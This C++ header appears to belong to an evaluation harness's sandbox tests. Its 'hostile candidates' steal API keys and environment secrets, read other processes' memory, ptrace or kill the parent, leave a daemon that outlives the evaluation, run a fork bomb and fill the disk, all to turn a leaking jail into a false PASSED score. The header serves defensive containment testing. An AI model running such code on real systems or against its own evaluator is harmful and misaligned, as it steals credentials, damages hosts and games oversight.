// Hostile candidates: each attack tries to reach beyond the worker's jail and says on
// stderr what it got ("KH-HOSTILE <attack>: ..."). The test fills in the @...@ fields
// (a token unique to the run, the secret, the loopback port, paths) before the build.
// An attack returns true when it succeeded; the entry then computes the right answer
// (the reward of the hack) and otherwise zeros, so a jail that leaks turns into a
// PASSED the test catches, and one that holds into an honest INCORRECT_NUMERICAL.
// The @...@ fields are filled in before the build: not C++ yet.
// clang-format off
#pragma once

#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <spawn.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace hostile {

constexpr const char* kToken = "@TOKEN@";
constexpr const char* kSecret = "@SECRET@";
constexpr const char* kCanary = "@CANARY@";
constexpr int kPort = @PORT@;
constexpr const char* kOutside = "@OUTSIDE@";
constexpr const char* kArchive = "@ARCHIVE@";
constexpr const char* kHome = "@HOME@";
// The name of the daemon an attack leaves (the fork bomb's processes are `sleep <token>`).
constexpr const char* kProcessName = "@PNAME@";

inline void report(const char* attack, const std::string& what) {
  std::fprintf(stderr, "KH-HOSTILE %s: %s\n", attack, what.c_str());
  std::fflush(stderr);
}

inline std::string read_all(const std::string& path, std::size_t limit = 1 << 20) {
  std::string out;
  const int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return out;
  char buf[65536];
  ssize_t n;
  while (out.size() < limit && (n = ::read(fd, buf, sizeof buf)) > 0) out.append(buf, static_cast<size_t>(n));
  ::close(fd);
  return out;
}

// Every pid this process can see, its parent's first.
inline std::vector<pid_t> visible_pids() {
  std::vector<pid_t> out{::getppid()};
  if (DIR* d = ::opendir("/proc")) {
    while (dirent* e = ::readdir(d)) {
      const pid_t pid = static_cast<pid_t>(std::atoi(e->d_name));
      if (pid > 0 && pid != ::getpid()) out.push_back(pid);
    }
    ::closedir(d);
  }
  return out;
}

// The processes that carry this run's token in their environment: the orchestrator of
// the test. A real attacker would take every process it can; these attacks aim only at
// their own test's, so that a jail that fails cannot harm the machine's other processes.
inline std::vector<pid_t> token_pids() {
  std::vector<pid_t> out;
  for (pid_t pid : visible_pids()) {
    const std::string env = read_all("/proc/" + std::to_string(pid) + "/environ");
    if (env.find(std::string("KH_HOSTILE_TOKEN=") + kToken) != std::string::npos) out.push_back(pid);
  }
  return out;
}

inline bool env_secret() {
  const char* openai = std::getenv("OPENAI_API_KEY");
  const char* anthropic = std::getenv("ANTHROPIC_API_KEY");
  const std::string own = read_all("/proc/self/environ");
  const bool got = (openai && std::strstr(openai, kSecret)) || (anthropic && std::strstr(anthropic, kSecret)) ||
                   own.find(kSecret) != std::string::npos;
  report("env_secret", std::string("OPENAI_API_KEY=") + (openai ? openai : "(unset)") + " ANTHROPIC_API_KEY=" +
                           (anthropic ? anthropic : "(unset)") + (got ? " GOT-SECRET" : " no secret"));
  return got;
}

inline bool parent_environ() {
  bool got = false;
  int readable = 0;
  for (pid_t pid : visible_pids()) {
    const std::string env = read_all("/proc/" + std::to_string(pid) + "/environ");
    if (!env.empty()) ++readable;
    if (env.find(kSecret) != std::string::npos) got = true;
  }
  report("parent_environ", "readable environments: " + std::to_string(readable) +
                               (got ? " GOT-SECRET" : " no secret"));
  return got;
}

// Reads the heap and stack of every visible process through /proc/<pid>/mem and
// process_vm_readv, looking for the secret (on the orchestrator's stack, with its
// environment) and the canary (on its heap).
inline bool parent_mem() {
  bool got = false;
  std::size_t bytes = 0;
  for (pid_t pid : visible_pids()) {
    const std::string maps = read_all("/proc/" + std::to_string(pid) + "/maps");
    const int mem = ::open(("/proc/" + std::to_string(pid) + "/mem").c_str(), O_RDONLY | O_CLOEXEC);
    std::size_t at = 0;
    while (at < maps.size()) {
      const std::size_t end = maps.find('\n', at);
      const std::string line = maps.substr(at, end - at);
      at = end == std::string::npos ? maps.size() : end + 1;
      if (line.find("[heap]") == std::string::npos && line.find("[stack]") == std::string::npos) continue;
      unsigned long lo = 0, hi = 0;
      if (std::sscanf(line.c_str(), "%lx-%lx", &lo, &hi) != 2) continue;
      std::string region(std::min<unsigned long>(hi - lo, 8ul << 20), '\0');
      ssize_t n = mem >= 0 ? ::pread(mem, region.data(), region.size(), static_cast<off_t>(lo)) : -1;
      if (n <= 0) {
        iovec local{region.data(), region.size()};
        iovec remote{reinterpret_cast<void*>(lo), region.size()};
        n = ::process_vm_readv(pid, &local, 1, &remote, 1, 0);
      }
      if (n <= 0) continue;
      bytes += static_cast<std::size_t>(n);
      region.resize(static_cast<std::size_t>(n));
      if (region.find(kSecret) != std::string::npos || region.find(kCanary) != std::string::npos) got = true;
    }
    if (mem >= 0) ::close(mem);
  }
  report("parent_mem", "bytes read from other processes: " + std::to_string(bytes) + (got ? " GOT-SECRET" : ""));
  return got;
}

inline bool ptrace_parent() {
  int attached = 0;
  std::vector<pid_t> targets = token_pids();
  targets.push_back(::getppid());
  for (pid_t pid : targets) {
    if (pid <= 1) continue;
    if (::ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) == 0) {
      ++attached;
      int status = 0;
      ::waitpid(pid, &status, __WALL);
      ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
    }
  }
  report("ptrace_parent", "attached to " + std::to_string(attached) + " of " + std::to_string(targets.size()));
  return attached > 0;
}

inline bool tcp_connect() {
  const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  bool connected = false;
  if (fd >= 0) {
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(static_cast<uint16_t>(kPort));
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    connected = ::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0;
    if (connected) (void)!::write(fd, "pwned", 5);
    ::close(fd);
  }
  report("tcp_connect", std::string(fd < 0 ? "no socket: " : connected ? "CONNECTED " : "refused: ") +
                            std::strerror(errno));
  return connected;
}

inline bool try_create(const std::string& path) {
  const int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (fd < 0) return false;
  (void)!::write(fd, "escaped", 7);
  ::close(fd);
  return true;
}

inline bool write_outside() {
  const std::string name = std::string("/kh-escaped-") + kToken;
  // /tmp in a jail is its own; the others are the host's (or absent).
  const bool tmp = try_create("/tmp" + name);
  int escaped = 0;
  for (const std::string dir : {std::string(kOutside), std::string(kHome), std::string("/var/tmp"), std::string("..")})
    escaped += try_create(dir + name) ? 1 : 0;
  report("write_outside", std::string("/tmp: ") + (tmp ? "written" : "refused") +
                              ", host folders written: " + std::to_string(escaped));
  return escaped > 0;
}

// Every index.sqlite within three levels of /tmp, and the archive the test named.
inline void find_archives(const std::string& dir, int depth, std::vector<std::string>& out) {
  DIR* d = ::opendir(dir.c_str());
  if (d == nullptr) return;
  while (dirent* e = ::readdir(d)) {
    const std::string name = e->d_name;
    if (name == "." || name == "..") continue;
    const std::string path = dir + "/" + name;
    if (name == "index.sqlite") out.push_back(path);
    if (depth > 0 && e->d_type == DT_DIR) find_archives(path, depth - 1, out);
  }
  ::closedir(d);
}

inline bool archive_access() {
  std::vector<std::string> found{std::string(kArchive) + "/index.sqlite"};
  find_archives("/tmp", 3, found);
  std::size_t bytes = 0;
  for (const auto& f : found) bytes += read_all(f).size();
  const bool wrote = try_create(std::string(kArchive) + "/blobs/kh-evil-" + kToken);
  report("archive_access", "archives seen " + std::to_string(found.size()) + ", bytes read " +
                               std::to_string(bytes) + (wrote ? ", WROTE a blob" : ", no write"));
  return bytes > 0 || wrote;
}

// A double-forked daemon in its own session: it must not outlive the evaluation.
inline bool setsid_daemon() {
  const pid_t first = ::fork();
  if (first == 0) {
    ::setsid();
    if (::fork() == 0) {
      ::prctl(PR_SET_NAME, kProcessName);
      for (int i = 0; i < 600; ++i) ::sleep(1);
      ::_exit(0);
    }
    ::_exit(0);
  }
  if (first > 0) ::waitpid(first, nullptr, 0);
  report("setsid_daemon", first > 0 ? "daemon started" : "fork failed");
  // Its success shows after the evaluation, if it is still alive; the answer is honest.
  return true;
}

inline bool kill_parent() {
  int killed = 0;
  const pid_t parent = ::getppid();
  if (parent > 1) {
    killed += ::kill(parent, SIGKILL) == 0;
    killed += ::kill(-::getpgid(parent), SIGKILL) == 0;
  }
  for (pid_t pid : token_pids()) killed += ::kill(pid, SIGKILL) == 0;
  // Everything it may signal: only where its parent is PID 1 of its namespace, that is,
  // inside a jail (never on a host where it would hit every process of the user).
  if (parent == 1) ::kill(-1, SIGKILL);
  report("kill_parent", "parent " + std::to_string(parent) + ", kills that landed: " + std::to_string(killed));
  return killed > 0;
}

// Processes without end: `sleep <token>`, spawned (vfork and exec, so each costs the
// worker no copy of its memory) until the process limit stops it.
inline bool fork_bomb() {
  int children = 0;
  char sleep_name[] = "sleep";
  char duration[32];
  std::snprintf(duration, sizeof duration, "%s", kToken);
  char* argv[] = {sleep_name, duration, nullptr};
  char* envp[] = {nullptr};
  for (; children < 3000; ++children) {
    pid_t pid = 0;
    if (::posix_spawn(&pid, "/bin/sleep", nullptr, nullptr, argv, envp) != 0) break;
  }
  report("fork_bomb", "spawned " + std::to_string(children) + " processes before the limit");
  return children >= 2000;
}

// Fills the scratch: past its bound the writes must fail, long before the host's disk.
// Files of 256 MiB, each under the worker's file-size limit, up to 3 GiB in all.
inline bool fill_scratch() {
  std::vector<char> chunk(8u << 20, 'x');
  std::size_t written = 0;
  bool full = false;
  int files = 0;
  for (; files < 12 && !full; ++files) {
    const std::string path = std::string("kh-fill-") + kToken + "-" + std::to_string(files);
    const int fd = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0) break;
    for (std::size_t in_file = 0; in_file < (256u << 20);) {
      const ssize_t n = ::write(fd, chunk.data(), chunk.size());
      if (n <= 0) {
        full = true;
        break;
      }
      in_file += static_cast<std::size_t>(n);
      written += static_cast<std::size_t>(n);
    }
    ::close(fd);
  }
  for (int i = 0; i < files; ++i) ::unlink((std::string("kh-fill-") + kToken + "-" + std::to_string(i)).c_str());
  report("fill_scratch", "bytes written to scratch: " + std::to_string(written));
  return written >= (1ul << 30);
}

// Runs the attack once per worker process; later calls return its first result.
template <bool (*Attack)()>
bool once() {
  static const bool result = Attack();
  return result;
}

}  // namespace hostile
